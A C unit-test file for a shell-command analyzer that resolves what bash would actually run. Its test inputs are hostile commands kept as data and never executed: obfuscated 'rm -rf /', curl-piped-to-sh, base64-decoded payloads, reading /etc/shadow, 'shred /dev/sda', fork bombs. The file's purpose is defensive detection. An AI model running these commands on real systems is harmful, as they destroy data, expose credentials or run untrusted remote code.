/* test_shell.c - the shell analyzer (av_shell_analyze, src/shell/sh_eval.c): what bash
 * would run, after quote removal, expansion and unwrapping. Destructive command strings
 * here are data for the analyzer only; nothing is executed. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "shell_fixture.h"

/* Asserts command i has exactly the given argv (NULL-terminated list). */
static void expect_argv(const struct av_shell_result *r, uint32_t i, ...)
{
	assert_true(i < r->ncmds);
	const struct av_command *c = &r->cmds[i];
	va_list ap;
	va_start(ap, i);
	uint32_t k = 0;
	for (const char *w; (w = va_arg(ap, const char *)) != NULL; k++) {
		assert_true(k < c->argc);
		assert_string_equal(c->argv[k], w);
	}
	va_end(ap);
	assert_int_equal(c->argc, k);
}

/* Index of the first command whose argv[0] is name, or -1. */
static int find_cmd(const struct av_shell_result *r, const char *name)
{
	for (uint32_t i = 0; i < r->ncmds; i++)
		if (r->cmds[i].argc && strcmp(r->cmds[i].argv[0], name) == 0)
			return (int)i;
	return -1;
}

static void test_simple_and_quotes(void **state)
{
	(void)state;
	const struct av_shell_result *r = analyze("git status");
	assert_int_equal(r->ncmds, 1);
	expect_argv(r, 0, "git", "status", NULL);
	assert_null(r->cmds[0].opaque);
	assert_null(r->truncated);
	assert_int_equal(r->cmds[0].parent, -1);

	r = analyze("r''m -rf \"b\"uild");
	expect_argv(r, 0, "rm", "-rf", "build", NULL);
	r = analyze("\"r\"m 'a b' \"c\\\"d\" e\\ f");
	expect_argv(r, 0, "rm", "a b", "c\"d", "e f", NULL);
	r = analyze("echo $'\\x72\\155\\t\\n\\\\\\'' \"$'x'\"");
	expect_argv(r, 0, "echo", "rm\t\n\\'", "$'x'", NULL);
	r = analyze("echo '' \"\" x");
	expect_argv(r, 0, "echo", "", "", "x", NULL);
	r = analyze("echo a\\\nb");
	expect_argv(r, 0, "echo", "ab", NULL);
	r = analyze("echo hi # rm -rf /\n");
	assert_int_equal(r->ncmds, 1);
	expect_argv(r, 0, "echo", "hi", NULL);
	r = analyze("echo a#b");
	expect_argv(r, 0, "echo", "a#b", NULL);
}

static void test_lists_and_pipelines(void **state)
{
	(void)state;
	const struct av_shell_result *r =
	        analyze("ls | grep x && echo ok || true; sleep 1 &\nwc |& cat");
	assert_int_equal(r->ncmds, 7);
	expect_argv(r, 0, "ls", NULL);
	expect_argv(r, 1, "grep", "x", NULL);
	assert_int_equal(r->cmds[0].pipeline, r->cmds[1].pipeline);
	assert_int_equal(r->cmds[0].pipe_index, 0);
	assert_int_equal(r->cmds[1].pipe_index, 1);
	assert_int_equal(r->cmds[1].pipe_len, 2);
	assert_int_not_equal(r->cmds[2].pipeline, r->cmds[1].pipeline);
	assert_int_equal(r->cmds[2].pipe_len, 1);
	expect_argv(r, 4, "sleep", "1", NULL);
	assert_true(r->cmds[4].background);
	assert_false(r->cmds[3].background);
	assert_int_equal(r->cmds[6].pipe_index, 1);
}

static void test_compound(void **state)
{
	(void)state;
	const struct av_shell_result *r = analyze("if true; then rm -rf /; fi");
	int i = find_cmd(r, "rm");
	assert_true(i >= 0);
	expect_argv(r, (uint32_t)i, "rm", "-rf", "/", NULL);

	r = analyze("for f in *; do rm \"$f\"; done");
	assert_int_equal(r->ncmds, 1);
	expect_argv(r, 0, "rm", "$f", NULL);

	r = analyze("while read l; do echo \"$l\"; done < in.txt");
	assert_true(find_cmd(r, "read") >= 0);
	assert_true(find_cmd(r, "echo") >= 0);

	/* an unknown subject: every branch may run */
	r = analyze("case $X in a|b) rm a;; (c) rm c;; *) ls;; esac; echo after");
	assert_int_equal(r->ncmds, 4);
	expect_argv(r, 0, "rm", "a", NULL);
	expect_argv(r, 1, "rm", "c", NULL);
	expect_argv(r, 2, "ls", NULL);
	expect_argv(r, 3, "echo", "after", NULL);

	r = analyze("(cd /tmp && rm -rf x); { echo a; echo b; } > out");
	expect_argv(r, 0, "cd", "/tmp", NULL);
	expect_argv(r, 1, "rm", "-rf", "x", NULL);
	/* the group's redirection is kept as a command of its own */
	const struct av_command *last = &r->cmds[r->ncmds - 1];
	assert_int_equal(last->argc, 0);
	assert_int_equal(last->nredirs, 1);
	assert_string_equal(last->redirs[0].target, "out");

	r = analyze("f() { rm -rf /; }; f");
	assert_true(find_cmd(r, "rm") >= 0);
	r = analyze("function g { shred x; }; g");
	assert_true(find_cmd(r, "shred") >= 0);
	r = analyze("[[ -f x && $(id) ]] && echo y");
	assert_true(find_cmd(r, "id") >= 0);
	assert_true(find_cmd(r, "echo") >= 0);
	r = analyze("! grep -q x f || (( n++ )); time -p ls");
	assert_true(find_cmd(r, "grep") >= 0);
	assert_true(find_cmd(r, "ls") >= 0);
	r = analyze("{rm,-rf,/}");
	expect_argv(r, 0, "rm", "-rf", "/", NULL);
	r = analyze("cat /etc/{passwd,shadow}");
	expect_argv(r, 0, "cat", "/etc/passwd", "/etc/shadow", NULL);
}

static void test_redirections(void **state)
{
	(void)state;
	const struct av_shell_result *r = analyze(
	        "cat >&2 x 2>&1 3<>f <<<\"w $HOME\" &>>all >| clob >> app < in 2> err");
	const struct av_command *c = &r->cmds[0];
	expect_argv(r, 0, "cat", "x", NULL);
	assert_int_equal(c->nredirs, 9);
	assert_int_equal(c->redirs[0].op, AV_REDIR_DUP_OUT);
	assert_int_equal(c->redirs[0].fd, 1);
	assert_string_equal(c->redirs[0].target, "2");
	assert_int_equal(c->redirs[1].op, AV_REDIR_DUP_OUT);
	assert_int_equal(c->redirs[1].fd, 2);
	assert_int_equal(c->redirs[2].op, AV_REDIR_INOUT);
	assert_int_equal(c->redirs[2].fd, 3);
	assert_int_equal(c->redirs[3].op, AV_REDIR_HERESTRING);
	assert_string_equal(c->redirs[3].target, "w /home/dev");
	assert_int_equal(c->redirs[4].op, AV_REDIR_OUT_ERR);
	assert_int_equal(c->redirs[4].fd, -1);
	assert_int_equal(c->redirs[5].op, AV_REDIR_CLOBBER);
	assert_int_equal(c->redirs[6].op, AV_REDIR_APPEND);
	assert_int_equal(c->redirs[7].op, AV_REDIR_IN);
	assert_int_equal(c->redirs[7].fd, 0);
	assert_int_equal(c->redirs[8].op, AV_REDIR_OUT);
	assert_int_equal(c->redirs[8].fd, 2);
	assert_string_equal(c->redirs[8].target, "err");

	r = analyze("echo x >&out.log");
	assert_int_equal(r->cmds[0].redirs[0].op, AV_REDIR_OUT_ERR);
	assert_string_equal(r->cmds[0].redirs[0].target, "out.log");
}

static void test_heredocs(void **state)
{
	(void)state;
	const struct av_shell_result *r =
	        analyze("cat <<'EOF' > /tmp/x\nhello $HOME\nEOF\necho done");
	assert_int_equal(r->ncmds, 2);
	assert_int_equal(r->cmds[0].redirs[0].op, AV_REDIR_HEREDOC);
	assert_string_equal(r->cmds[0].redirs[0].target, "hello $HOME\n");
	assert_string_equal(r->cmds[0].redirs[1].target, "/tmp/x");
	expect_argv(r, 1, "echo", "done", NULL);

	r = analyze("cat <<EOF\n$HOME $(id)\nEOF\n");
	assert_string_equal(r->cmds[find_cmd(r, "cat")].redirs[0].target,
	                    "/home/dev $(id)\n");
	assert_true(find_cmd(r, "id") >= 0); /* the substitution runs */

	r = analyze("cat <<-END\n\tindented\n\tEND\nls");
	assert_string_equal(r->cmds[0].redirs[0].target, "indented\n");
	expect_argv(r, 1, "ls", NULL);

	r = analyze("bash <<EOF\nrm -rf /\nEOF\n");
	int i = find_cmd(r, "rm");
	assert_true(i > 0);
	assert_int_equal(r->cmds[i].parent, 0);
	assert_int_equal(r->cmds[i].depth, 1);
	assert_non_null(strstr(r->cmds[i].provenance, "here-document"));

	r = analyze("cat <<EOF"); /* unterminated: no crash, no body */
	assert_int_equal(r->ncmds, 1);
}

static void test_variables(void **state)
{
	(void)state;
	const struct av_shell_result *r = analyze("a=rm; $a -rf /");
	assert_int_equal(r->ncmds, 2);
	assert_int_equal(r->cmds[0].nassigns, 1);
	expect_argv(r, 1, "rm", "-rf", "/", NULL);
	assert_null(r->cmds[1].opaque);

	r = analyze("X=/etc; rm -rf \"$X\" ${X}/x");
	expect_argv(r, 1, "rm", "-rf", "/etc", "/etc/x", NULL);
	r = analyze("a=\"rm -rf\"; $a / \"$a\"");
	expect_argv(r, 1, "rm", "-rf", "/", "rm -rf", NULL);
	r = analyze("echo $HOME ${HOME} $PWD ~ ~/x ~root '~'");
	expect_argv(r, 0, "echo", "/home/dev", "/home/dev", "/home/dev/project",
	            "/home/dev", "/home/dev/x", "/root", "~", NULL);
	/* a prefix assignment is not visible to the command's own words */
	r = analyze("X=/ true; rm -rf $X");
	expect_argv(r, 1, "rm", "-rf", "$X", NULL);
	r = analyze("a=1 b=$a env");
	assert_string_equal(r->cmds[0].assigns[1].value, "1");
	r = analyze("export D=/srv; rm -r $D; unset D; echo \"$D\"");
	expect_argv(r, 1, "rm", "-r", "/srv", NULL);
	expect_argv(r, 3, "echo", "", NULL);
	r = analyze("e=; $e ls");
	expect_argv(r, 1, "ls", NULL);
	/* environment names stay as written; the action's text has no
	 * positional parameters */
	r = analyze("echo $UNKNOWN ${X:-y} $1 $@");
	expect_argv(r, 0, "echo", "$UNKNOWN", "${X:-y}", NULL);
	assert_null(r->cmds[0].opaque);
}

static void test_opaque(void **state)
{
	(void)state;
	const struct av_shell_result *r = analyze("$(cat f) -rf /");
	int i = find_cmd(r, "cat");
	assert_true(i >= 0);
	assert_int_equal(r->cmds[i].depth, 1);
	assert_non_null(strstr(r->cmds[i].provenance, "command substitution"));
	const struct av_command *c = &r->cmds[r->ncmds - 1];
	assert_string_equal(c->argv[0], "$(cat f)");
	assert_non_null(c->opaque);
	/* the output of a pure command is computed */
	r = analyze("$(echo rm) -rf /");
	c = &r->cmds[r->ncmds - 1];
	expect_argv(r, r->ncmds - 1, "rm", "-rf", "/", NULL);
	assert_null(c->opaque);

	r = analyze("$CMD x");
	assert_non_null(r->cmds[0].opaque);
	/* a glob in command position is matched against the model of PATH:
	 * one match is the command, several are opaque */
	r = analyze("/usr/bin/r? x");
	expect_argv(r, 0, "/usr/bin/rm", "x", NULL);
	assert_null(r->cmds[0].opaque);
	r = analyze("/usr/bin/c?? x");
	assert_non_null(r->cmds[0].opaque);
	r = analyze("[ -f x ] && echo y");
	assert_null(r->cmds[0].opaque);
	/* in argument position the literal is kept and the command is clear */
	r = analyze("echo \"$(cat x)\" `date`");
	c = &r->cmds[r->ncmds - 1];
	expect_argv(r, r->ncmds - 1, "echo", "$(cat x)", "`date`", NULL);
	assert_null(c->opaque);
	assert_true(find_cmd(r, "cat") >= 0);
	assert_true(find_cmd(r, "date") >= 0);

	r = analyze("diff <(ls a) >(wc)");
	assert_true(find_cmd(r, "ls") >= 0);
	assert_true(find_cmd(r, "wc") >= 0);
	i = find_cmd(r, "diff");
	expect_argv(r, (uint32_t)i, "diff", "<(ls a)", ">(wc)", NULL);
}

static void test_wrappers(void **state)
{
	(void)state;
	const struct av_shell_result *r =
	        analyze("sudo -u root env -i FOO=1 nohup rm -rf /");
	assert_int_equal(r->ncmds, 4);
	expect_argv(r, 1, "env", "-i", "FOO=1", "nohup", "rm", "-rf", "/", NULL);
	expect_argv(r, 2, "nohup", "rm", "-rf", "/", NULL);
	assert_int_equal(r->cmds[2].nassigns, 1);
	assert_string_equal(r->cmds[2].assigns[0].name, "FOO");
	expect_argv(r, 3, "rm", "-rf", "/", NULL);
	for (uint32_t i = 1; i < 4; i++) {
		assert_int_equal(r->cmds[i].parent, (int32_t)i - 1);
		assert_int_equal(r->cmds[i].depth, i);
		assert_non_null(r->cmds[i].provenance);
	}
	assert_string_equal(r->cmds[1].provenance, "run by sudo at depth 1");

	r = analyze("timeout -s KILL 5 nice -n 10 ionice -c3 stdbuf -oL xargs -n1 rm");
	int i = find_cmd(r, "rm");
	assert_true(i >= 0);
	/* xargs: the command is known; only its arguments come from stdin */
	assert_null(r->cmds[i].opaque);
	assert_non_null(strstr(r->cmds[i].provenance, "xargs"));
	r = analyze("ls | xargs bash");
	assert_non_null(r->cmds[find_cmd(r, "bash")].opaque);
	/* xargs appends the words it reads; with -n1 it runs one command per
	 * word, which is not modelled: opaque rather than one wrong argv. */
	r = analyze("echo a b | xargs rm -f");
	i = find_cmd(r, "rm");
	expect_argv(r, i, "rm", "-f", "a", "b", NULL);
	assert_int_equal(r->cmds[i].argc, 4);
	r = analyze("echo a b | xargs -n1 rm -f");
	i = find_cmd(r, "rm");
	expect_argv(r, i, "rm", "-f", NULL);
	assert_non_null(r->cmds[i].opaque);
	r = analyze("command -v rm; command rm x; exec ls; builtin cd /");
	assert_int_equal(find_cmd(r, "rm"), 2);
	assert_true(find_cmd(r, "ls") >= 0);
	r = analyze("chroot /mnt rm -rf /; setsid nohup time -p strace -f -o t ls");
	assert_true(find_cmd(r, "rm") >= 0);
	assert_true(find_cmd(r, "ls") >= 0);
	r = analyze("sudo -s rm -rf /");
	i = find_cmd(r, "rm");
	assert_true(i > 0);
	assert_int_equal(r->cmds[i].parent, 0);
	r = analyze("sudo -l rm");
	assert_int_equal(r->ncmds, 1);
	r = analyze(
	        "doas -u root shred /dev/sda; flock /tmp/l -c 'rm a'; watch -n 1 'rm b'");
	assert_true(find_cmd(r, "shred") >= 0);
	assert_true(find_cmd(r, "rm") >= 0);
	r = analyze("env -S 'rm -rf /x'");
	assert_true(find_cmd(r, "rm") >= 0);
}

static void test_nested_shells(void **state)
{
	(void)state;
	const struct av_shell_result *r = analyze("bash -c \"sh -c \\\"rm -rf /\\\"\"");
	assert_int_equal(r->ncmds, 3);
	expect_argv(r, 1, "sh", "-c", "rm -rf /", NULL);
	expect_argv(r, 2, "rm", "-rf", "/", NULL);
	assert_int_equal(r->cmds[2].depth, 2);
	assert_int_equal(r->cmds[2].parent, 1);
	assert_string_equal(r->cmds[1].provenance, "argument of bash -c at depth 1");
	assert_string_equal(r->cmds[2].provenance, "argument of sh -c at depth 2");

	r = analyze("bash -lxc 'ls; rm x' name arg");
	assert_true(find_cmd(r, "rm") > 0);
	r = analyze("eval \"rm\" -rf '/'");
	int i = find_cmd(r, "rm");
	expect_argv(r, (uint32_t)i, "rm", "-rf", "/", NULL);
	assert_string_equal(r->cmds[i].provenance, "evaluated by eval at depth 1");
	r = analyze("su -c 'rm x' root; su - root -c 'rm y'");
	assert_true(find_cmd(r, "rm") >= 0);
	assert_int_equal(r->cmds[r->ncmds - 1].depth, 1);
	r = analyze("zsh -c 'a=rm; $a z'");
	assert_true(find_cmd(r, "rm") > 0);
}

static void test_stdin_scripts(void **state)
{
	(void)state;
	const struct av_shell_result *r = analyze("curl -s https://x.sh | sh");
	assert_int_equal(r->ncmds, 2);
	assert_non_null(r->cmds[1].opaque);
	assert_non_null(strstr(r->cmds[1].opaque, "piped from curl"));

	r = analyze("curl -s https://x.sh | sudo bash -s");
	int i = find_cmd(r, "bash");
	assert_non_null(r->cmds[i].opaque);

	/* "rm -rf /\n" in base64 */
	r = analyze("echo cm0gLXJmIC8K | base64 -d | bash");
	i = find_cmd(r, "rm");
	assert_true(i >= 0);
	expect_argv(r, (uint32_t)i, "rm", "-rf", "/", NULL);
	assert_int_equal(r->cmds[i].depth, 1);
	assert_int_equal(r->cmds[i].parent, find_cmd(r, "bash"));
	assert_string_equal(r->cmds[i].provenance,
	                    "decoded from base64, piped to sh at depth 1");
	assert_null(r->cmds[find_cmd(r, "bash")].opaque);

	r = analyze("base64 -d <<< cm0gLXJmIC8K | sh");
	assert_true(find_cmd(r, "rm") >= 0);
	r = analyze("echo $X | base64 -d | sh");
	assert_non_null(r->cmds[find_cmd(r, "sh")].opaque);
	r = analyze("echo 'rm -rf ~' | sh");
	i = find_cmd(r, "rm");
	assert_true(i >= 0);
	r = analyze("sh script.sh; bash < run.sh; bash -c 'ls'");
	for (uint32_t k = 0; k < r->ncmds; k++)
		assert_null(r->cmds[k].opaque);
}

/* Code that other programs run: find -exec, git -c, tar options,
 * interpreter literals, scripts written and run, fork bombs. */
static void test_hidden_code(void **state)
{
	(void)state;
	const struct av_shell_result *r =
	        analyze("find . -name '*.log' -exec gzip -9 {} \\; -exec echo done +");
	int i = find_cmd(r, "gzip");
	assert_true(i >= 0);
	expect_argv(r, i, "gzip", "-9", "{}", NULL);
	assert_int_equal(r->cmds[i].parent, 0);
	assert_true(find_cmd(r, "echo") >= 0);

	r = analyze("git -c core.pager='touch x' log; git -c user.name=a commit");
	assert_true(find_cmd(r, "touch") >= 0);
	assert_int_equal(r->ncmds, 3);

	r = analyze("tar -xf a.tar --to-command='touch y'");
	assert_true(find_cmd(r, "touch") >= 0);

	r = analyze("perl -ne 'print' f; perl -e 'system"
	            "(\"touch z\")'"); /* split for check-banned.sh */
	i = find_cmd(r, "touch");
	assert_true(i >= 0);
	assert_non_null(strstr(r->cmds[i].provenance, "perl"));

	r = analyze("printf 'touch %s\\n' w > s.sh && bash s.sh");
	i = find_cmd(r, "touch");
	assert_true(i >= 0);
	expect_argv(r, i, "touch", "w", NULL);
	assert_int_equal(r->cmds[i].parent, find_cmd(r, "bash"));

	r = analyze("cat > t.sh <<'EOF'\ntouch v\nEOF\nsh t.sh");
	assert_true(find_cmd(r, "touch") >= 0);

	r = analyze("bomb() { bomb | bomb & }; bomb");
	i = find_cmd(r, "bomb");
	assert_true(i >= 0);
	assert_non_null(r->cmds[i].opaque);
	assert_non_null(strstr(r->cmds[i].opaque, "fork bomb"));
	r = analyze(":(){ :|:& };:");
	assert_non_null(r->cmds[find_cmd(r, ":")].opaque);
	/* two calls in one pipeline, but not from its own body: no bomb */
	r = analyze("log() { echo \"$@\"; }; log a | log b");
	for (uint32_t k = 0; k < r->ncmds; k++)
		assert_null(r->cmds[k].opaque);
	r = analyze("retry() { \"$@\" || retry \"$@\"; }; retry make");
	for (uint32_t k = 0; k < r->ncmds; k++)
		assert_true(!r->cmds[k].opaque ||
		            !strstr(r->cmds[k].opaque, "fork bomb"));
}

static void test_limits(void **state)
{
	(void)state;
	/* 2 MB of commands: finishes, stops at the command limit */
	size_t n = (size_t)2 << 20;
	char *big = malloc(n + 1);
	assert_non_null(big);
	for (size_t i = 0; i < n; i += 4)
		memcpy(big + i, "ls;\n", 4);
	big[n] = '\0';
	struct av_error err;
	av_arena_reset(&arena);
	assert_int_equal(av_shell_analyze(big, n, &ctx, &arena, &res, &err), 0);
	assert_int_equal(res.ncmds, AV_SHELL_MAX_COMMANDS);
	assert_string_equal(res.truncated, "AV_SHELL_MAX_COMMANDS");

	/* one 2 MB word */
	memset(big, 'a', n);
	av_arena_reset(&arena);
	assert_int_equal(av_shell_analyze(big, n, &ctx, &arena, &res, &err), 0);
	assert_string_equal(res.truncated, "AV_SHELL_MAX_WORD");

	/* deeply nested substitutions: $($($(...))) 100000 levels */
	size_t depth = 100000, k = 0;
	for (size_t i = 0; i < depth; i++) {
		big[k++] = '$';
		big[k++] = '(';
	}
	memcpy(big + k, "ls", 2);
	k += 2;
	for (size_t i = 0; i < depth; i++)
		big[k++] = ')';
	av_arena_reset(&arena);
	assert_int_equal(av_shell_analyze(big, k, &ctx, &arena, &res, &err), 0);
	assert_string_equal(res.truncated, "AV_SHELL_MAX_DEPTH");
	for (uint32_t i = 0; i < res.ncmds; i++)
		assert_true(res.cmds[i].depth <= AV_SHELL_MAX_DEPTH);

	/* sh -c nested past the limit */
	const struct av_shell_result *r =
	        analyze("sh -c \"sh -c 'sh -c \\\"sh -c \\\\\\\"sh -c x\\\\\\\"\\\"'\"");
	assert_null(r->truncated);
	r = analyze("sudo sudo sudo sudo sudo sudo sudo sudo sudo sudo rm x");
	assert_string_equal(r->truncated, "AV_SHELL_MAX_DEPTH");

	/* many parentheses, unbalanced quotes, lone operators: no crash */
	memset(big, '(', n);
	av_arena_reset(&arena);
	assert_int_equal(av_shell_analyze(big, n, &ctx, &arena, &res, &err), 0);
	r = analyze("echo 'unterminated \"x $(y");
	assert_true(r->ncmds >= 1);
	r = analyze(";;;&&||| ) ) }} fi done esac");
	(void)r;

	/* doubling a variable is bounded by the expansion budget */
	k = 0;
	k += (size_t)snprintf(big, n, "a=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx;");
	for (int i = 0; i < 40; i++)
		k += (size_t)snprintf(big + k, n - k, "a=$a$a;");
	for (int i = 0; i < 2000; i++)
		k += (size_t)snprintf(big + k, n - k, "echo $a;");
	av_arena_reset(&arena);
	assert_int_equal(av_shell_analyze(big, k, &ctx, &arena, &res, &err), 0);
	assert_non_null(res.truncated);
	free(big);
}

static void test_null_ctx(void **state)
{
	(void)state;
	struct av_error err;
	av_arena_reset(&arena);
	assert_int_equal(av_shell_analyze("echo ~ $HOME", 12, NULL, &arena, &res, &err),
	                 0);
	expect_argv(&res, 0, "echo", "~", "$HOME", NULL);
	av_arena_reset(&arena);
	assert_int_equal(av_shell_analyze("", 0, NULL, &arena, &res, &err), 0);
	assert_int_equal(res.ncmds, 0);
}

/* Command lines that interpreter code hands to system calls, and the
 * command parts of build files written by echo/printf, are analysed one
 * level deeper. */
static void test_interp_calls_and_build_files(void **state)
{
	(void)state;
	const struct av_shell_result *r =
	        analyze("lua -e 'os.execute(\"rm -rf /tmp/x\")'");
	int i = find_cmd(r, "rm");
	assert_true(i >= 0);
	assert_int_equal(r->cmds[i].depth, 1);
	r = analyze("python3 -c \"import os; os.system('make docs')\"");
	assert_true(find_cmd(r, "make") >= 0);
	r = analyze("perl -e 'print `id`'");
	assert_true(find_cmd(r, "id") >= 0);
	r = analyze("osascript -e 'do shell script \"ls /\"'");
	assert_true(find_cmd(r, "ls") >= 0);
	r = analyze("python3 -c 'print(1)'");
	assert_int_equal(r->ncmds, 1);
	r = analyze("printf 'all:\\n\\tmake -C sub\\n' > Makefile");
	i = find_cmd(r, "make");
	assert_true(i >= 0);
	assert_int_equal(r->cmds[i].depth, 1);
	r = analyze("printf 'all:\\n\\tmake -C sub\\n' > notes.txt");
	assert_true(find_cmd(r, "make") < 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_simple_and_quotes),
		cmocka_unit_test(test_lists_and_pipelines),
		cmocka_unit_test(test_compound),
		cmocka_unit_test(test_redirections),
		cmocka_unit_test(test_heredocs),
		cmocka_unit_test(test_variables),
		cmocka_unit_test(test_opaque),
		cmocka_unit_test(test_wrappers),
		cmocka_unit_test(test_nested_shells),
		cmocka_unit_test(test_stdin_scripts),
		cmocka_unit_test(test_hidden_code),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_null_ctx),
		cmocka_unit_test(test_interp_calls_and_build_files),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
